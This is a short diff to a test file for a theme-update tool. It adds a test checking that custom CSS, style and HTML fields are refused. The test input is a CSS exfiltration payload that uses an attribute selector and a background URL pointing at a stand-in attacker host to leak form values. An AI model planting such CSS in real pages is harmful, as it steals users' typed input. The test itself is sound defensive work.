@@ -54,6 +54,11 @@ describe("update_theme", () => {
     expect((await refusal(call("update_theme", fields))).code).toBe("validation_error");
   });
 
+  it.each(["custom_css", "css", "style", "html"])("DB-03 takes no %s: rules of a tenant's own are not offered", async (field) => {
+    const { call } = await setUp();
+    expect((await refusal(call("update_theme", { [field]: "input[value^=a]{background:url(//evil.example/a)}" }))).code).toBe("validation_error");
+  });
+
   it("warns of text that is hard to read (WCAG 1.4.3)", async () => {
     const { call } = await setUp();
     expect((await call("get_theme")).warnings).toEqual([]);
